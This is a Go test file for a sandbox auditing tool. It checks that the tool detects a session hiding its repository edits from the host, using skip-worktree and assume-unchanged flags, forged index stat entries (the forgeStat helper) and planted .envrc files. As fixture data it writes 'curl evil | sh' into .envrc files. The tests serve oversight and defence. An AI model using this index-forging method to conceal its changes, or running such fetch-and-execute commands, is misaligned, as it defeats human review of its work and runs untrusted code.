package audit

import (
	"bytes"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/binary"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/claudebox/claudebox/paths"
)

// gitIndex makes a repository with a skip-worktree entry, an
// assume-unchanged one, a gitlink and a long name, in index version v, and
// returns its index's bytes.
func gitIndex(t testing.TB, v int, format string) []byte {
	b, _ := gitIndexIn(t, v, format, false)
	return b
}

// gitIndexIn is gitIndex, with the index split (git update-index
// --split-index) if split, and the repository's git directory.
func gitIndexIn(t testing.TB, v int, format string, split bool) ([]byte, string) {
	t.Helper()
	dir := t.TempDir()
	git := func(args ...string) {
		t.Helper()
		c := exec.Command("git", args...)
		c.Dir = dir
		c.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "GIT_CONFIG_NOSYSTEM=1"}
		if out, err := c.CombinedOutput(); err != nil {
			t.Fatalf("git %q: %v\n%s", args, err, out)
		}
	}
	git("init", "-q", "--object-format="+format)
	long := "dir/" + strings.Repeat("n", 200) + "/" + strings.Repeat("m", 201)
	for _, p := range []string{"a", "b/c", "b/d", long, "z"} {
		must(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, p)), 0o755))
		must(t, os.WriteFile(filepath.Join(dir, p), []byte(p), 0o644))
	}
	git("add", ".")
	git("update-index", "--skip-worktree", "b/c")
	git("update-index", "--assume-unchanged", "z")
	zero := "0000000000000000000000000000000000000001"
	if format == "sha256" {
		zero = "0000000000000000000000000000000000000000000000000000000000000001"
	}
	git("update-index", "--add", "--cacheinfo", "160000,"+zero+",vendor/tool")
	git("update-index", "--index-version", strconv.Itoa(v))
	if split {
		// The second split moves every entry into the shared index.
		git("update-index", "--split-index")
		git("update-index", "--split-index")
	}
	b, err := os.ReadFile(filepath.Join(dir, ".git", "index"))
	must(t, err)
	return b, filepath.Join(dir, ".git")
}

// TestParseIndex reads what git wrote, in each index version and object
// format, as git means it.
func TestParseIndex(t *testing.T) {
	want := map[string]uint8{"b/c": skipWorktree, "z": assumeUnchanged, "vendor/tool": gitlink}
	for _, format := range []string{"sha1", "sha256"} {
		for v := 2; v <= 4; v++ {
			b := gitIndex(t, v, format)
			n := 20
			if format == "sha256" {
				n = 32
			}
			got, shared, err := parseIndex(b, n)
			if err != nil || !maps.Equal(got, want) || shared != "" {
				t.Errorf("version %d, %s: %v, %q, %v; want %v", v, format, got, shared, err, want)
			}
			// Cut anywhere, it is refused, never misread into a panic.
			for i := 0; i < len(b); i += 7 {
				parseIndex(b[:i], n)
			}
		}
	}
}

// TestParseSplitIndex: a split index names its shared index, whose
// entries git reads as the index's own; the gitlink is there.
func TestParseSplitIndex(t *testing.T) {
	for v := 2; v <= 4; v++ {
		b, gitDir := gitIndexIn(t, v, "sha1", true)
		got, shared, err := parseIndex(b, 20)
		if err != nil || shared == "" || got["vendor/tool"] != 0 {
			t.Fatalf("version %d: %v, %q, %v; want a shared index holding the gitlink", v, got, shared, err)
		}
		b, err = os.ReadFile(filepath.Join(gitDir, "sharedindex."+shared))
		must(t, err)
		if got, _, err := parseIndex(b, 20); err != nil || got["vendor/tool"] != gitlink {
			t.Errorf("version %d: the shared index reads %v, %v", v, got, err)
		}
	}
}

// FuzzParseIndex: whatever the sandbox writes as the index, reading it
// ends, within the bytes given.
func FuzzParseIndex(f *testing.F) {
	for v := 2; v <= 4; v++ {
		f.Add(gitIndex(f, v, "sha1"))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		got, _, err := parseIndex(b, 20)
		if err == nil && len(got) > len(b) {
			t.Fatalf("%d entries from %d bytes", len(got), len(b))
		}
	})
}

// TestShowAgain: the session edits two tracked files, hides them
// (skip-worktree, assume-unchanged) and writes into the index the status
// of what it wrote, so that git would trust the entry without reading the
// file; it also sets skip-worktree on a file it removed (a sparse
// checkout's). After the audit, the host's git status names both edits,
// and the absent file is not named, its flag kept. In each index version
// and object format.
func TestShowAgain(t *testing.T) {
	for _, format := range []string{"sha1", "sha256"} {
		for v := 2; v <= 4; v++ {
			dir := t.TempDir()
			git := func(args ...string) string {
				t.Helper()
				c := exec.Command("git", args...)
				c.Dir = dir
				c.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "GIT_CONFIG_NOSYSTEM=1"}
				out, err := c.CombinedOutput()
				if err != nil {
					t.Fatalf("git %q: %v\n%s", args, err, out)
				}
				return string(out)
			}
			git("init", "-q", "--object-format="+format)
			for _, p := range []string{"package.json", "Makefile", "gone", "b/kept"} {
				write(t, filepath.Join(dir, p))
			}
			git("add", ".")
			git("-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "i")
			git("update-index", "--index-version", strconv.Itoa(v))
			git("update-index", "--untracked-cache")
			since := mark(t, t.TempDir())
			start := Take(dir, since, nil, nil)
			// The same size, so that only the content differs.
			must(t, os.WriteFile(filepath.Join(dir, "package.json"), []byte("evil"), 0o644))
			must(t, os.WriteFile(filepath.Join(dir, "Makefile"), []byte("evil"), 0o644))
			// Older than the index: git would not read them again as
			// racily clean.
			for _, p := range []string{"package.json", "Makefile"} {
				hour := time.Now().Add(-time.Hour)
				must(t, os.Chtimes(filepath.Join(dir, p), hour, hour))
			}
			git("update-index", "--skip-worktree", "package.json", "gone")
			git("update-index", "--assume-unchanged", "Makefile")
			forgeStat(t, dir, format, "package.json", "Makefile")
			must(t, os.Remove(filepath.Join(dir, "gone")))
			if out := git("status", "--porcelain"); out != "" {
				t.Fatalf("the setup shows %q", out)
			}
			r := Scan(dir, since, nil, start, nil)
			if len(r.Hidden) != 2 {
				t.Fatalf("%s v%d: hidden %+v, want package.json and Makefile", format, v, r.Hidden)
			}
			if left, err := ShowAgain(r.Hidden, IndexLocks{}); err != nil || left != nil {
				t.Fatalf("%s v%d: %v %v", format, v, left, err)
			}
			if out, want := git("status", "--porcelain"), " M Makefile\n M package.json\n"; out != want {
				t.Errorf("%s v%d: git status says %q, want %q", format, v, out, want)
			}
			if out := git("ls-files", "-v", "gone"); out != "S gone\n" {
				t.Errorf("%s v%d: the absent file's entry is %q", format, v, out)
			}
		}
	}
}

// TestShowAgainLocked: git holds the index's lock (a host git running):
// the index is left, and the entries are returned with the reason.
func TestShowAgainLocked(t *testing.T) {
	_, gitDir := gitIndexIn(t, 2, "sha1", false)
	write(t, filepath.Join(gitDir, "index.lock"))
	before, err := os.ReadFile(filepath.Join(gitDir, "index"))
	must(t, err)
	left, err := ShowAgain([]Hidden{{Repo: filepath.Dir(gitDir), Path: "z", gitDir: gitDir, bits: assumeUnchanged}}, IndexLocks{})
	if len(left) != 1 || err == nil {
		t.Errorf("left %v, %v", left, err)
	}
	after, _ := os.ReadFile(filepath.Join(gitDir, "index"))
	if !bytes.Equal(before, after) || !paths.Exists(filepath.Join(gitDir, "index.lock")) {
		t.Error("the locked index changed, or its lock went")
	}
}

// forgeStat writes into the index of the repository dir the status the
// files names now have, as the session can: git then trusts each entry
// without reading the file.
func forgeStat(t *testing.T, dir, format string, names ...string) {
	t.Helper()
	n := 20
	if format == "sha256" {
		n = 32
	}
	index := filepath.Join(dir, ".git", "index")
	b, err := os.ReadFile(index)
	must(t, err)
	_, err = eachEntry(b, n, func(e indexEntry) {
		if !slices.Contains(names, string(e.name)) {
			return
		}
		var st unix.Stat_t
		must(t, unix.Lstat(filepath.Join(dir, string(e.name)), &st))
		for i, v := range []int64{st.Ctim.Sec, st.Ctim.Nsec, st.Mtim.Sec, st.Mtim.Nsec, int64(st.Dev), int64(st.Ino)} {
			binary.BigEndian.PutUint32(b[e.at+4*i:], uint32(v))
		}
		binary.BigEndian.PutUint32(b[e.at+36:], uint32(st.Size))
	})
	must(t, err)
	var sum []byte
	if n == 32 {
		s := sha256.Sum256(b[:len(b)-n])
		sum = s[:]
	} else {
		s := sha1.Sum(b[:len(b)-n])
		sum = s[:]
	}
	copy(b[len(b)-n:], sum)
	must(t, os.WriteFile(index, b, 0o644))
}

// TestScanWorktreeTracked: a worktree the session made inside the project
// (git worktree add) checks out a branch that tracks an .envrc and a
// .vscode/tasks.json: neither is a finding there, but the .envrc edited
// after the checkout is, and so is one the branch does not track, in a
// second worktree, or one its index hides (skip-worktree).
func TestScanWorktreeTracked(t *testing.T) {
	root := t.TempDir()
	git := func(dir string, args ...string) {
		t.Helper()
		c := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com"}, args...)...)
		c.Dir = dir
		c.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + root, "GIT_CONFIG_NOSYSTEM=1"}
		if out, err := c.CombinedOutput(); err != nil {
			t.Fatalf("git %q: %v\n%s", args, err, out)
		}
	}
	git(root, "init", "-q")
	write(t, filepath.Join(root, "README"))
	git(root, "add", ".")
	git(root, "commit", "-qm", "i")
	git(root, "checkout", "-qb", "other")
	must(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("use nix\n"), 0o644))
	write(t, filepath.Join(root, ".vscode", "tasks.json"))
	write(t, filepath.Join(root, "hidden", ".envrc"))
	git(root, "add", ".")
	git(root, "commit", "-qm", "envrc")
	git(root, "checkout", "-q", "-")
	since := mark(t, t.TempDir())
	start := Take(root, since, nil, nil)
	git(root, "worktree", "add", "-q", ".worktrees/x", "other")
	git(root, "worktree", "add", "-q", "--detach", ".worktrees/y", "other")
	wy := filepath.Join(root, ".worktrees", "y")
	must(t, os.WriteFile(filepath.Join(wy, ".envrc"), []byte("curl evil | sh\n"), 0o644))
	write(t, filepath.Join(wy, "sub", ".envrc"))
	git(wy, "update-index", "--skip-worktree", "hidden/.envrc")
	must(t, os.WriteFile(filepath.Join(wy, "hidden", ".envrc"), []byte("curl evil | sh\n"), 0o644))
	// What the skip-worktree flag hides in y's index is named as hidden;
	// the file itself is a finding.
	r := Scan(root, since, nil, start, nil)
	want := []string{filepath.Join(wy, ".envrc"), filepath.Join(wy, "hidden", ".envrc"), filepath.Join(wy, "sub", ".envrc")}
	if !slices.Equal(r.Found, want) {
		t.Errorf("found %q, want %q", r.Found, want)
	}
}

// TestTakeReusesIndex: the record at a session's start takes an index's
// entries from the base record while the index is the same file,
// unchanged since (a large repository's is not read at every start);
// one rewritten in place, on the same inode, with its size kept (as the
// sandbox of an earlier session could), is read again, and so is a split
// index, whose shared part is another file.
func TestTakeReusesIndex(t *testing.T) {
	for _, split := range []bool{false, true} {
		_, gitDir := gitIndexIn(t, 2, "sha1", split)
		root := filepath.Dir(gitDir)
		first := Take(root, mark(t, t.TempDir()), nil, nil)
		if got := first.Index[".git"]["z"]; got != assumeUnchanged {
			t.Fatalf("split %v: the first record's index: %v", split, first.Index[".git"])
		}
		// A mark only the reused entries carry.
		first.Index[".git"]["reused"] = assumeUnchanged
		second := Take(root, mark(t, t.TempDir()), nil, first)
		if _, reused := second.Index[".git"]["reused"]; reused == split {
			t.Errorf("split %v: the unchanged index's entries reused: %v", split, reused)
		}
		if split {
			continue
		}
		index := filepath.Join(gitDir, "index")
		b, err := os.ReadFile(index)
		must(t, err)
		f, err := os.OpenFile(index, os.O_WRONLY, 0)
		must(t, err)
		_, err = f.WriteAt(b, 0)
		must(t, err)
		must(t, f.Close())
		third := Take(root, mark(t, t.TempDir()), nil, second)
		if _, reused := third.Index[".git"]["reused"]; reused || third.Index[".git"]["z"] != assumeUnchanged {
			t.Errorf("the index rewritten in place: %v", third.Index[".git"])
		}
	}
}
